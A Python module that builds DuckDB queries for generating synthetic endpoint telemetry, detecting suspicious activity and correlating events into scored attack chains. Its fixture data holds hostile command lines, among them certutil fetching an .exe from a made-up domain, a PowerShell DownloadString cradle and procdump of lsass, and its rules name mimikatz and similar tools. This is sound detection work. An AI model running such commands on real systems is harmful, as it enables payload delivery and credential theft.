"""DuckDB statements of the same views, as common table expressions that build on each other."""

from __future__ import annotations

from chainspark.dims import SUGGESTED, TACTIC_RISK, TACTICS, TECHNIQUES

_q = lambda s: "'" + str(s).replace("'", "''") + "'"


def values(rows, names: str) -> str:
    return f"(SELECT * FROM (VALUES {', '.join('(' + ', '.join(_q(x) if isinstance(x, str) else str(x) for x in r) + ')' for r in rows)}) v({names}))"


DIMS = f"""tech AS {values(TECHNIQUES, "technique_id, name, tactic")},
tac AS {values([(t, i, s) for i, (t, s) in enumerate(TACTICS)], "tactic, idx, stage")},
sug AS {values(SUGGESTED, "tactic, technique_id")},
risk AS {values(TACTIC_RISK, "tactic, points")}"""

P = r"""base AS (SELECT event_id AS n, event_id // 64 AS blk, user_id % 2 AS u, CAST(json_extract_string(props, '$.k') AS INT) AS k, event_type AS raw_type FROM events),
typed AS (SELECT *, CASE raw_type WHEN 'error' THEN 'LOGIN_ATTEMPT' WHEN 'signup' THEN if(k < 70, 'LOGIN_SUCCESS', 'PRIVILEGE_CHANGE')
  WHEN 'click' THEN 'PROCESS_CREATED' WHEN 'view' THEN if(k < 80, 'NETWORK_CONNECTION', 'DNS_QUERY')
  ELSE CASE WHEN k < 40 THEN 'FILE_CREATED' WHEN k < 65 THEN 'REGISTRY_MODIFIED' WHEN k < 85 THEN 'SERVICE_CREATED' ELSE 'REMOTE_EXECUTION' END END AS event_type FROM base),
p AS MATERIALIZED (SELECT 'EVT-' || lpad(n::VARCHAR, 12, '0') AS event_id, 1704067200 + 7 * n AS sec, event_type,
  CASE WHEN n % 50 <> 7 THEN 'host-' || (blk % 4096) END AS host, 'user-' || blk || '-' || u AS "user",
  CASE WHEN event_type LIKE 'LOGIN%' THEN '10.' || ((blk // 250) % 250) || '.' || (blk % 250) || '.' || (u + 1) END AS source_ip,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN CASE WHEN k < 2 AND blk % 16 = 0 THEN '185.220.101.45'
    WHEN k % 5 = 0 THEN '10.' || (blk % 250) || '.0.' || k ELSE '8.8.' || (blk % 250) || '.' || k END END AS destination_ip,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN [443, 80, 4444, 8080, 22, 53][k % 6 + 1] END AS destination_port,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN 'tcp' WHEN event_type = 'REMOTE_EXECUTION' AND k % 4 = 0 THEN 'http' END AS protocol,
  CASE WHEN n % 50 <> 7 AND event_type NOT LIKE 'LOGIN%' THEN ['powershell.exe', 'cmd.exe', 'explorer.exe', 'rundll32.exe',
    'certutil.exe', 'chrome.exe', 'mimikatz.exe', 'wscript.exe'][k % 8 + 1] END AS process_name,
  CASE WHEN event_type NOT LIKE 'LOGIN%' THEN k END AS process_id,
  CASE WHEN n % 50 <> 7 AND event_type IN ('PROCESS_CREATED', 'FILE_CREATED') THEN ['winword.exe', 'explorer.exe',
    'services.exe', 'powershell.exe', 'outlook.exe'][(k // 8) % 5 + 1] END AS parent_process,
  CASE WHEN event_type = 'PROCESS_CREATED' THEN (k * 7) % 100 END AS parent_process_id,
  CASE WHEN event_type IN ('PROCESS_CREATED', 'REMOTE_EXECUTION', 'REGISTRY_MODIFIED') THEN [
    'powershell.exe -enc SQBFAFgA', 'cmd.exe /c whoami', 'Get-Service | Out-GridView', 'rundll32.exe javascript:alert',
    'certutil.exe -urlcache -f http://h' || blk || '.update-cdn-live.net/a.exe', 'IEX (New-Object Net.WebClient).DownloadString',
    'procdump.exe -ma lsass.exe', 'schtasks /create /tn updater', 'wscript.exe C:\Users\Public\run.js', NULL][k % 10 + 1] END AS command_line,
  CASE WHEN event_type = 'FILE_CREATED' THEN 'C:\Users\u' || blk || if(k < 4, '\Startup\', '\AppData\Local\Temp\') || 'f' || (k % 7) || ['.exe', '.txt', '.ps1', '.docx'][k % 4 + 1]
    WHEN event_type = 'REGISTRY_MODIFIED' THEN if(k % 2 = 0, 'HKLM\Software\Microsoft\Windows\CurrentVersion\Run\u' || blk, 'HKLM\Software\Vendor\u' || blk)
    WHEN event_type = 'SERVICE_CREATED' THEN if(k % 2 = 0, 'C:\ProgramData\svc' || blk || '.exe', 'C:\Windows\System32\svc' || blk || '.sys') END AS file_path,
  CASE WHEN event_type = 'DNS_QUERY' THEN CASE WHEN k % 4 = 0 THEN 'h' || blk || '.update-cdn-live.net'
    WHEN k % 4 = 1 THEN repeat('a', 45) || blk || '.example.com' ELSE 'www.h' || blk || '.example.com' END END AS domain,
  CASE event_type WHEN 'LOGIN_ATTEMPT' THEN 'LOW' WHEN 'PRIVILEGE_CHANGE' THEN 'MEDIUM' WHEN 'SERVICE_CREATED' THEN 'MEDIUM' WHEN 'REMOTE_EXECUTION' THEN 'HIGH' ELSE 'INFO' END AS severity,
  CASE WHEN event_type = 'PRIVILEGE_CHANGE' THEN ['fodhelper', 'SeDebugPrivilege', 'logon', 'logon', 'logon'][k % 5 + 1]
    WHEN event_type = 'REMOTE_EXECUTION' THEN ['psexec', 'wmi', 'winrm'][k % 3 + 1] END AS note,
  'SCN-' || (blk % 6) AS scenario_id FROM typed)"""

_ANY = lambda c, parts: "(" + " OR ".join(f"contains({c}, {_q(p)})" for p in parts) + ")"

# Every value of the view is known, so the rules are stated over its own word lists.
DETECT = rf"""f AS (SELECT *, coalesce(lower(process_name), '') AS proc, coalesce(lower(parent_process), '') AS par, coalesce(lower(command_line), '') AS cmd,
  coalesce(lower(file_path), '') AS path, coalesce(lower(note), '') AS nt, coalesce(domain, '') AS q,
  event_type = 'NETWORK_CONNECTION' AND destination_ip IS NOT NULL AND NOT destination_ip LIKE '10.%' AS outside FROM p),
marks AS (SELECT *, {_ANY("cmd", ("downloadstring",))} OR regexp_matches(cmd, '(^|[^a-z0-9_-])-(enc|encodedcommand|ec)($|[^a-z0-9_-])') OR regexp_matches(cmd, '(^|[^a-z0-9_-])iex($|[^a-z0-9_-])') AS risky FROM f),
login AS (SELECT event_id, sec, event_type = 'LOGIN_SUCCESS' AS ok, source_ip AS src, "user" AS usr FROM p WHERE event_type LIKE 'LOGIN%'),
epochs AS (SELECT *, coalesce(sum(ok::INT) OVER (PARTITION BY src, usr ORDER BY sec ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS ep FROM login),
fails AS (SELECT *, least(51, count(*) FILTER (WHERE NOT ok) OVER (PARTITION BY src, usr, ep ORDER BY sec RANGE BETWEEN 300 PRECEDING AND CURRENT ROW)) AS n FROM epochs),
prior0 AS (SELECT *, last_value(CASE WHEN NOT ok THEN n END IGNORE NULLS) OVER (PARTITION BY src, usr, ep ORDER BY sec ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS prn FROM fails),
prior AS (SELECT *, CASE WHEN prn IS NULL THEN 0 WHEN prn > 50 THEN 50 ELSE prn END AS pr FROM prior0),
outs AS (SELECT event_id, sec, coalesce(host, 'unknown') AS src, row_number() OVER (PARTITION BY coalesce(host, 'unknown'), destination_ip ORDER BY sec) = 1 AS one FROM f WHERE outside),
fan AS (SELECT event_id, src, sum(one::INT) OVER (PARTITION BY src ORDER BY sec) AS n FROM outs),
hits AS (
  SELECT event_id, 1 AS rule_ord, 'AUTH_BRUTE_FORCE' AS rule_id, 'HIGH' AS severity, 'T1110.001' AS technique_id, n || ' failed logins for ''' || usr || ''' from ' || src AS title FROM prior WHERE NOT ok AND n >= 5
  UNION ALL SELECT event_id, 2, 'AUTH_SUCCESS_AFTER_FAILURES', 'CRITICAL', 'T1078', 'Successful login for ''' || usr || ''' after ' || pr || ' failures' FROM prior WHERE ok AND pr >= 5
  UNION ALL SELECT event_id, 3, 'PRIVILEGED_LOGON', if(nt IN ('fodhelper', 'sedebugprivilege'), 'HIGH', 'MEDIUM'), if(nt = 'fodhelper', 'T1548.002', 'T1078'),
    if(nt = 'fodhelper', 'UAC bypass indicator observed', 'Privileged logon/session for ''' || "user" || '''') FROM f WHERE event_type = 'PRIVILEGE_CHANGE'
  UNION ALL SELECT event_id, 4, 'OFFICE_SPAWNS_POWERSHELL', 'HIGH', 'T1059.001', par || ' spawned ' || proc FROM f WHERE event_type = 'PROCESS_CREATED' AND par IN ('winword.exe', 'outlook.exe') AND proc IN ('powershell.exe', 'cmd.exe', 'wscript.exe')
  UNION ALL SELECT event_id, 5, 'ENCODED_POWERSHELL', 'HIGH', 'T1027', 'Encoded PowerShell execution' FROM f WHERE event_type = 'PROCESS_CREATED' AND proc = 'powershell.exe' AND contains(cmd, '-enc')
  UNION ALL SELECT event_id, 6, 'SUSPICIOUS_POWERSHELL', 'HIGH', 'T1059.001', 'Suspicious PowerShell invocation' FROM marks WHERE event_type = 'PROCESS_CREATED' AND proc = 'powershell.exe' AND risky
  UNION ALL SELECT event_id, 7, 'SUSPICIOUS_LOLBIN', 'HIGH', if(proc = 'certutil.exe', 'T1105', 'T1218'), 'Suspicious ' || proc || ' execution' FROM f
    WHERE event_type = 'PROCESS_CREATED' AND proc IN ('rundll32.exe', 'certutil.exe') AND {_ANY("cmd", ("http", "urlcache", "-ml", "javascript:", "vbscript:", "\\\\", "/i ", "hidden", "scrobj"))}
  UNION ALL SELECT event_id, 8, 'SUSPICIOUS_EXECUTABLE_CREATION', if(contains(path, '\startup') OR coalesce(nullif(proc, ''), par) IN ('powershell.exe', 'cmd.exe', 'wscript.exe', 'rundll32.exe', 'certutil.exe'), 'HIGH', 'MEDIUM'),
    if(contains(path, '\startup'), 'T1547.001', 'T1105'), if(contains(path, '\startup'), 'Executable placed in startup location', 'Executable/script written: ' || list_last(string_split(path, '\')))
    FROM f WHERE event_type = 'FILE_CREATED' AND (path LIKE '%.exe' OR path LIKE '%.ps1')
  UNION ALL SELECT event_id, 9, 'SCRIPT_IN_USER_DIRECTORY', 'MEDIUM', 'T1059.001', proc || ' executed content from a user-writable directory' FROM f
    WHERE event_type = 'PROCESS_CREATED' AND proc IN ('powershell.exe', 'wscript.exe') AND contains(cmd, '\users\public\')
  UNION ALL SELECT event_id, 10, 'UNUSUAL_OUTBOUND_CONNECTION', if(destination_ip = '185.220.101.45' OR destination_port IN (4444, 8080), 'HIGH', 'MEDIUM'), 'T1071.001',
    'Outbound connection ' || coalesce(nullif(proc, ''), 'unknown') || ' -> ' || destination_ip || ':' || destination_port FROM f
    WHERE outside AND (destination_ip = '185.220.101.45' OR destination_port IN (4444, 8080) OR proc IN ('powershell.exe', 'cmd.exe', 'wscript.exe', 'certutil.exe', 'rundll32.exe'))
  UNION ALL SELECT event_id, 11, 'SUSPICIOUS_DNS_QUERY', if(q LIKE '%.update-cdn-live.net', 'HIGH', 'MEDIUM'), 'T1071.004', 'Suspicious DNS query: ' || left(q, 80) || if(q LIKE '%.update-cdn-live.net', ' (known-bad domain indicator)',
    if(length(q) >= 60, ' (long query length)', ' (long subdomain label)')) FROM f WHERE event_type = 'DNS_QUERY' AND (q LIKE '%.update-cdn-live.net' OR length(q) >= 60 OR q LIKE 'aaaaa%')
  UNION ALL SELECT event_id, 12, 'MULTIPLE_REMOTE_PORTS', 'MEDIUM', 'T1046', n || ' distinct external destinations from ' || src FROM fan WHERE n >= 8
  UNION ALL SELECT event_id, 13, 'REGISTRY_PERSISTENCE', 'HIGH', 'T1547.001', 'Persistence registry key modified' FROM f WHERE event_type = 'REGISTRY_MODIFIED' AND contains(path, '\currentversion\run')
  UNION ALL SELECT event_id, 14, 'SUSPICIOUS_SERVICE_INSTALL', 'HIGH', 'T1543.003', 'Suspicious service installed on ' || coalesce(host, 'None') FROM f WHERE event_type = 'SERVICE_CREATED' AND contains(path, '\programdata\')
  UNION ALL SELECT event_id, 15, 'REMOTE_EXECUTION', 'HIGH', if(nt = 'winrm' OR protocol = 'http', 'T1021.006', if(nt = 'wmi', 'T1047', 'T1021.002')), 'Remote execution on ' || coalesce(host, 'host') FROM f WHERE event_type = 'REMOTE_EXECUTION'
  UNION ALL SELECT event_id, 16, 'SCHEDULED_TASK_CREATED', 'HIGH', 'T1053.005', 'Scheduled task created' FROM f WHERE event_type IN ('SERVICE_CREATED', 'FILE_CREATED', 'REGISTRY_MODIFIED', 'PROCESS_CREATED') AND contains(cmd, '/create')
  UNION ALL SELECT event_id, 17, 'CREDENTIAL_DUMPING_TOOL', 'CRITICAL', 'T1003.001', 'Credential dumping activity: ' || coalesce(nullif(proc, ''), nullif(list_last(string_split(path, '\')), ''), 'dump') FROM f
    WHERE event_type IN ('PROCESS_CREATED', 'FILE_CREATED') AND (proc = 'mimikatz.exe' OR contains(cmd, 'lsass'))),
det AS MATERIALIZED (SELECT h.*, t.name AS technique_name, t.tactic FROM hits h JOIN tech t USING (technique_id)),
ranked AS MATERIALIZED (SELECT *, row_number() OVER (PARTITION BY event_id ORDER BY list_position(['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'], severity) DESC, rule_ord) AS rn, count(*) OVER (PARTITION BY event_id) AS findings FROM det),
best AS (SELECT * FROM ranked WHERE rn = 1),
e AS MATERIALIZED (SELECT p.*, b.technique_id, b.technique_name, b.tactic, coalesce(b.findings, 0) AS findings FROM p LEFT JOIN best b USING (event_id))"""


def with_(select: str, *parts: str, recursive: bool = False, p: str = P) -> str:
    return f"WITH {'RECURSIVE ' if recursive else ''}" + ",\n".join((DIMS, p, *parts)) + "\n" + select


def isolated(detect: str) -> str:
    """Detection with every scenario by itself: its rules that count over events count within one."""
    for whole, apart in (
        ('"user" AS usr FROM p', '"user" AS usr, scenario_id AS scn FROM p'),
        ("PARTITION BY src, usr", "PARTITION BY scn, src, usr"),
        ("coalesce(host, 'unknown') AS src, row_number() OVER (PARTITION BY coalesce", "coalesce(host, 'unknown') AS src, scenario_id AS scn, row_number() OVER (PARTITION BY scenario_id, coalesce"),
        ("OVER (PARTITION BY src ORDER BY sec) AS n FROM outs", "OVER (PARTITION BY scn, src ORDER BY sec) AS n FROM outs"),
    ):
        assert whole in detect
        detect = detect.replace(whole, apart)
    return detect


#: The view with scenarios that take turns every sixteen events, so that accounts and hosts stand in several.
CROSSED = P.replace("'SCN-' || (blk % 6) AS scenario_id", "'SCN-' || ((n // 16) % 6) AS scenario_id")


PAIRS = r"""keys AS MATERIALIZED (SELECT event_id, unnest([x for x in [
    'h:' || host, 'u:' || "user", 'sip:' || source_ip, 'dip:' || destination_ip, 'dom:' || domain, 'f:' || lower(file_path),
    'p:' || coalesce(host || ':', '') || process_name, 'p:' || coalesce(host || ':', '') || parent_process,
    CASE WHEN host IS NULL THEN 'n:' || process_id END, CASE WHEN host IS NULL THEN 'n:' || parent_process_id END] if x IS NOT NULL]) AS key FROM p),
shared AS MATERIALIZED (SELECT DISTINCT a.event_id AS x, b.event_id AS y FROM keys a JOIN keys b ON a.key = b.key AND a.event_id < b.event_id),
near AS (SELECT a.event_id AS x, b.event_id AS y FROM p a JOIN p b ON b.sec > a.sec AND b.sec <= a.sec + 600 AND (a.host IS NULL OR b.host IS NULL)),
cand AS MATERIALIZED (SELECT * FROM shared UNION SELECT * FROM near),
es AS MATERIALIZED (SELECT e.*, t.idx, list_last(string_split(replace(lower(coalesce(file_path, '')), '\', '/'), '/')) AS base, lower(coalesce(command_line, '')) AS cmd, coalesce(process_name, '') AS proc FROM e LEFT JOIN tac t USING (tactic))"""

_SCORE = r"""two@ AS (SELECT a.event_id AS event_a, b.event_id AS event_b, a.technique_id IS NOT NULL AS seed_a, b.technique_id IS NOT NULL AS seed_b, b.sec - a.sec AS gap,
  coalesce(a.host = b.host, false) AS eq_host, coalesce(a.host <> b.host, false) AS ne_host, coalesce(a.host, '') = coalesce(b.host, '') AS one_host,
  coalesce(a."user" = b."user", false) AS eq_user, coalesce(a.source_ip = b.source_ip, false) AS eq_sip, coalesce(a.destination_ip = b.destination_ip, false) AS eq_dip,
  coalesce(a.domain = b.domain, false) AS eq_dom, coalesce(lower(a.file_path) = lower(b.file_path), false) AS eq_file,
  coalesce(a.process_id = b.parent_process_id, false) OR coalesce(b.process_id = a.parent_process_id, false) OR coalesce(a.process_name = b.process_name, false) AS lineage,
  a.event_type = 'FILE_CREATED' AND a.base <> '' AND (contains(b.cmd, a.base) OR a.base = b.proc) AS a_made,
  b.event_type = 'FILE_CREATED' AND b.base <> '' AND (contains(a.cmd, b.base) OR b.base = a.proc) AS b_made,
  a.event_type = 'LOGIN_SUCCESS' AND b.event_type IN ('PROCESS_CREATED', 'REMOTE_EXECUTION', 'FILE_CREATED', 'REGISTRY_MODIFIED') AS acted,
  a.event_type = 'DNS_QUERY' AND b.event_type IN ('FILE_CREATED', 'NETWORK_CONNECTION') AND contains(b.cmd, a.domain) AS resolved,
  a.event_type = 'NETWORK_CONNECTION' AND b.event_type = 'FILE_CREATED' AND contains(b.cmd, a.destination_ip) AS fetched,
  a.event_type = 'PROCESS_CREATED' AND b.event_type = 'REGISTRY_MODIFIED' AND a.proc <> '' AND contains(b.cmd, a.proc) AS changed, a.idx AS ia, b.idx AS ib
  FROM #CAND# JOIN es a ON a.event_id = x JOIN es b ON b.event_id = y),
pts@ AS (SELECT event_a, event_b, seed_a, seed_b, CASE WHEN gap <= 30 THEN 'STRICT' WHEN gap <= 120 THEN 'NORMAL' WHEN gap <= 600 THEN 'BROAD' END AS "window",
  CASE WHEN gap <= 30 THEN 20 WHEN gap <= 120 THEN 16 WHEN gap <= 600 THEN 10 ELSE 0 END AS temporal, 20 * eq_host::INT AS same_host, 11 * eq_user::INT AS same_user,
  4 * eq_sip::INT AS same_source_ip, 4 * eq_dip::INT AS same_destination_ip, 2 * eq_dom::INT AS shared_domain,
  20 * (one_host AND (lineage OR a_made OR b_made))::INT AS process_relationship, 4 * eq_file::INT AS shared_file,
  CASE WHEN ia IS NULL OR ib IS NULL THEN 0 WHEN ib < ia THEN 3 WHEN ib - ia <= 6 THEN 10 ELSE 6 END AS attack_progression,
  5 * (NOT ne_host AND (a_made OR (acted AND eq_user) OR coalesce(resolved, false) OR coalesce(fetched, false) OR changed))::INT AS event_dependency FROM two@),
scores@ AS (SELECT *, temporal + same_host + same_user + same_source_ip + same_destination_ip + shared_domain + process_relationship + shared_file + attack_progression + event_dependency AS total FROM pts@)"""


def _scores(pairs: str, suffix: str = "") -> str:
    return _SCORE.replace("@", suffix).replace("#CAND#", pairs)


CORRELATE = f"""{PAIRS},
{_scores("cand")},
edges AS MATERIALIZED (SELECT * FROM scores WHERE total >= 35 AND total > temporal + same_host)"""

# Every candidate is ranked by both its ends before any is scored.
CAPPED = f"""lineage AS (SELECT DISTINCT least(a.event_id, b.event_id) AS x, greatest(a.event_id, b.event_id) AS y FROM p a JOIN p b
  ON coalesce(a.host, '') = coalesce(b.host, '') AND a.parent_process_id = b.process_id AND a.event_id <> b.event_id),
every AS (SELECT * FROM shared UNION SELECT a.event_id, b.event_id FROM p a JOIN p b ON b.sec > a.sec AND b.sec <= a.sec + 600 UNION SELECT * FROM lineage),
sides AS (SELECT x AS o, y AS other, x, y FROM every UNION ALL SELECT y, x, x, y FROM every),
kept AS MATERIALIZED (SELECT DISTINCT x, y FROM (SELECT s.*, row_number() OVER (PARTITION BY o ORDER BY (abs(a.sec - b.sec) > 600)::INT, other) AS r
  FROM sides s JOIN p a ON a.event_id = s.x JOIN p b ON b.event_id = s.y) WHERE r <= 40),
{_scores("kept", "_of")}"""


def reach(name: str, edges: str) -> str:
    """Smallest reachable id of each vertex of an edge selection."""
    return f"""{name}_e AS (SELECT event_a AS v, event_b AS w FROM {edges} UNION ALL SELECT event_b, event_a FROM {edges}),
{name}_r AS (SELECT DISTINCT v, v AS c FROM {name}_e UNION SELECT x.w, r.c FROM {name}_r r JOIN {name}_e x ON x.v = r.v WHERE r.c < x.w),
{name} AS (SELECT v AS event_id, min(c) AS component FROM {name}_r GROUP BY v)"""


CHAINS = (
    "strong AS (SELECT * FROM edges WHERE (seed_a AND seed_b) OR ((seed_a OR seed_b) AND total >= 50)),\n"
    + reach("cc", "strong")
    + r""",
members AS MATERIALIZED (SELECT c.component AS chain, c.event_id, p.sec, row_number() OVER (PARTITION BY c.component ORDER BY p.sec, c.event_id) AS position FROM cc c JOIN p USING (event_id)),
internal AS MATERIALIZED (SELECT a.chain, x.* FROM edges x JOIN members a ON a.event_id = x.event_a JOIN members b ON b.event_id = x.event_b WHERE a.chain = b.chain),
conf0 AS (SELECT chain, count(*) AS links, avg(temporal) AS g1, avg(same_host) AS g2, avg(same_user) AS g3, avg(same_source_ip + same_destination_ip + shared_domain) AS g4,
  avg(process_relationship) AS g5, avg(shared_file) AS g6, avg(attack_progression) AS g7, avg(event_dependency) AS g8 FROM internal GROUP BY chain),
conf AS (SELECT *, round_even(least(100.0, if(g1 >= 0.5, g1, 0) + if(g2 >= 0.5, g2, 0) + if(g3 >= 0.5, g3, 0) + if(g4 >= 0.5, g4, 0) + if(g5 >= 0.5, g5, 0) + if(g6 >= 0.5, g6, 0) + if(g7 >= 0.5, g7, 0) + if(g8 >= 0.5, g8, 0)), 1) AS confidence FROM conf0),
me AS MATERIALIZED (SELECT m.chain, m.position, e.* FROM members m JOIN e USING (event_id)),
md AS (SELECT m.chain, d.* FROM members m JOIN det d USING (event_id)),
cht AS (SELECT DISTINCT chain, tactic FROM (SELECT chain, tactic FROM me WHERE tactic IS NOT NULL UNION ALL SELECT chain, tactic FROM md)),
chq AS (SELECT DISTINCT chain, technique_id FROM (SELECT chain, technique_id FROM me WHERE technique_id IS NOT NULL UNION ALL SELECT chain, technique_id FROM md)),
peak AS (SELECT chain, max(list_position(['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'], severity)) AS pk FROM (SELECT chain, severity FROM me UNION ALL SELECT chain, severity FROM md) GROUP BY chain),
sized AS (SELECT chain, min(sec) AS start_sec, max(sec) AS end_sec, count(*) AS events, count(DISTINCT host) AS hosts, count(DISTINCT "user") AS users FROM me GROUP BY chain),
dets AS (SELECT chain, count(*) AS detections FROM md GROUP BY chain),
tcs AS (SELECT chain, count(*) AS tactics, sum(coalesce(points, 0)) AS tpoints, string_agg(cht.tactic, ',' ORDER BY coalesce(tac.idx, 99), cht.tactic) AS tactic_list FROM cht LEFT JOIN risk USING (tactic) LEFT JOIN tac USING (tactic) GROUP BY chain),
tqs AS (SELECT chain, count(*) AS techniques, string_agg(technique_id, ',' ORDER BY place) AS technique_list FROM (SELECT chain, technique_id, min(place) AS place FROM (
  SELECT chain, technique_id, position * 100 AS place FROM me WHERE technique_id IS NOT NULL UNION ALL SELECT m.chain, d.technique_id, 1000000000000 + position * 100 + rule_ord FROM members m JOIN det d USING (event_id)) GROUP BY ALL) GROUP BY chain),
prs AS (SELECT chain, string_agg(DISTINCT x, ',' ORDER BY x) AS process_list FROM (SELECT chain, unnest([process_name, parent_process]) AS x FROM me) WHERE x IS NOT NULL GROUP BY chain),
ch0 AS MATERIALIZED (SELECT s.*, coalesce(d.detections, 0) AS detections, coalesce(t.tactics, 0) AS tactics, coalesce(q.techniques, 0) AS techniques, t.tactic_list, q.technique_list, coalesce(process_list, '') AS process_list, coalesce(c.confidence, 0) AS confidence, c.links,
  least(100, [0, 4, 10, 18, 25][pk] + coalesce(tpoints, 0) + if(hosts > 1, least(10, 4 * (hosts - 1)), 0) + if(users > 1, least(8, 3 * (users - 1)), 0) + least(10, coalesce(q.techniques, 0))) AS risk
  FROM sized s JOIN peak USING (chain) LEFT JOIN dets d USING (chain) LEFT JOIN tcs t USING (chain) LEFT JOIN tqs q USING (chain) LEFT JOIN prs USING (chain) LEFT JOIN conf c USING (chain)),
ch AS MATERIALIZED (SELECT *, CASE WHEN risk >= 90 THEN 'CRITICAL' WHEN risk >= 56 THEN 'HIGH' WHEN risk >= 30 THEN 'MEDIUM' ELSE 'LOW' END AS risk_level,
  confidence >= 45 AND risk >= 40 AND (detections > 0 OR techniques > 0) AS is_attack,
  'CHN-' || lpad((row_number() OVER (ORDER BY start_sec, chain))::VARCHAR, 4, '0') AS chain_no FROM ch0),
obs AS (SELECT chain, tactic, idx FROM cht JOIN tac USING (tactic)),
span AS (SELECT chain, min(idx) AS lo, max(idx) AS hi, bool_or(idx IN (2, 4, 7)) AS early FROM obs GROUP BY chain),
gap AS (SELECT s.chain, t.tactic, t.idx, sug.technique_id, (SELECT min(o.idx) FROM obs o WHERE o.chain = s.chain AND o.idx > t.idx) - t.idx AS dist FROM span s JOIN tac t ON t.idx BETWEEN s.lo AND s.hi JOIN sug USING (tactic)
  WHERE NOT EXISTS (SELECT 1 FROM obs o WHERE o.chain = s.chain AND o.idx = t.idx)),
made AS (SELECT chain, position, host, list_last(string_split(replace(lower(file_path), '\', '/'), '/')) AS base FROM me WHERE event_type = 'FILE_CREATED' AND file_path IS NOT NULL),
ran AS (SELECT DISTINCT m.chain FROM made m JOIN me r ON r.chain = m.chain AND r.event_type = 'PROCESS_CREATED' AND r.position > m.position AND m.base <> ''
  AND (contains(lower(coalesce(r.command_line, '')), m.base) OR m.base = coalesce(r.process_name, '')) AND (m.host IS NULL OR m.host IS NOT DISTINCT FROM r.host)
  WHERE m.chain NOT IN (SELECT chain FROM chq WHERE technique_id LIKE 'T1204%')),
step0 AS (SELECT g.chain, 'MISSING_TACTIC_GAP' AS kind, g.tactic, g.technique_id, greatest(25.0, CASE dist WHEN 1 THEN 66.0 WHEN 2 THEN 56.0 WHEN 3 THEN 47.0 ELSE 40.0 END - if(ch.confidence < 50, 8.0, 0.0)) AS confidence FROM gap g JOIN ch USING (chain)
  UNION ALL SELECT chain, 'MISSING_EXECUTION_STEP', 'EXECUTION', 'T1204.002', if(ch.confidence >= 50, 61.0, 50.0) FROM ran JOIN ch USING (chain)),
step1 AS (SELECT * FROM (SELECT s.*, row_number() OVER (PARTITION BY chain ORDER BY confidence DESC, tac.idx, kind) AS r FROM step0 s JOIN tac USING (tactic) WHERE confidence >= 45) WHERE r <= 4),
step2 AS (SELECT chain, kind, tactic, technique_id, confidence FROM step1 UNION ALL SELECT chain, 'MISSING_PRE_CHAIN', 'INITIAL ACCESS', 'T1566', 46.0 FROM span WHERE lo > 2 AND NOT early),
steps AS MATERIALIZED (SELECT chain, kind, tactic, technique_id, confidence::DOUBLE AS confidence FROM (SELECT *, row_number() OVER (PARTITION BY chain ORDER BY (kind = 'MISSING_PRE_CHAIN')::INT, confidence DESC) AS r FROM step2) WHERE r <= 4),
seen AS (SELECT chain, tactic, idx, min(sec) AS first_sec, min_by(technique_id, event_id) AS technique_id FROM me JOIN tac USING (tactic) GROUP BY ALL),
placed AS (SELECT *, row_number() OVER w AS place, lead(idx) OVER w AS nxt FROM seen WINDOW w AS (PARTITION BY chain ORDER BY first_sec, idx)),
path0 AS (SELECT chain, place, -1 AS sub, 'OBSERVED' AS kind, tactic, technique_id, first_sec FROM placed
  UNION ALL SELECT q.chain, q.place, t.idx, 'INFERRED', t.tactic, s.technique_id, NULL FROM placed q JOIN (SELECT chain, tactic, max_by(technique_id, confidence) AS technique_id FROM steps GROUP BY ALL) s USING (chain) JOIN tac t ON t.tactic = s.tactic WHERE t.idx > q.idx AND t.idx < q.nxt)"""
)

EVIDENCE = """ev AS (SELECT m.chain, 'OBSERVED' AS kind, 'DETECTION' AS type, row_number() OVER (PARTITION BY m.chain ORDER BY severity DESC, position, rule_ord) AS place, m.event_id, severity,
  NULL::DOUBLE AS points, title AS summary FROM members m JOIN det USING (event_id)
  UNION ALL SELECT chain, 'OBSERVED', 'CORRELATION_LINK', r, event_a || ',' || event_b, NULL, total::DOUBLE, 'linked by ' || concat_ws(', ', if(attack_progression > 0, 'attack_progression', NULL),
    if(process_relationship > 0, 'process_relationship', NULL), if(same_host > 0, 'same_host', NULL), if(same_user > 0, 'same_user', NULL), if(event_dependency > 0, 'sequence_match', NULL),
    if(shared_file > 0, 'shared_file', NULL), if(same_source_ip + same_destination_ip + shared_domain > 0, 'shared_network_entity', NULL), if(temporal > 0, 'temporal', NULL)) || ' with ' || total || ' points'
    FROM (SELECT *, row_number() OVER (PARTITION BY chain ORDER BY total DESC, event_a, event_b) AS r FROM internal) WHERE r <= 6
  UNION ALL SELECT chain, 'OBSERVED', 'TIMELINE_BOUNDS', 1, arg_min(event_id, position) || ',' || arg_max(event_id, position), NULL, NULL,
    count(*) || ' events, ' || arg_min(event_type, position) || ' to ' || arg_max(event_type, position) FROM me GROUP BY chain
  UNION ALL SELECT chain, 'INFERRED', 'MISSING_STEP', row_number() OVER (PARTITION BY chain ORDER BY confidence DESC, technique_id, kind), NULL, NULL, confidence, technique_id || ' may be missing in ' || tactic FROM steps)"""
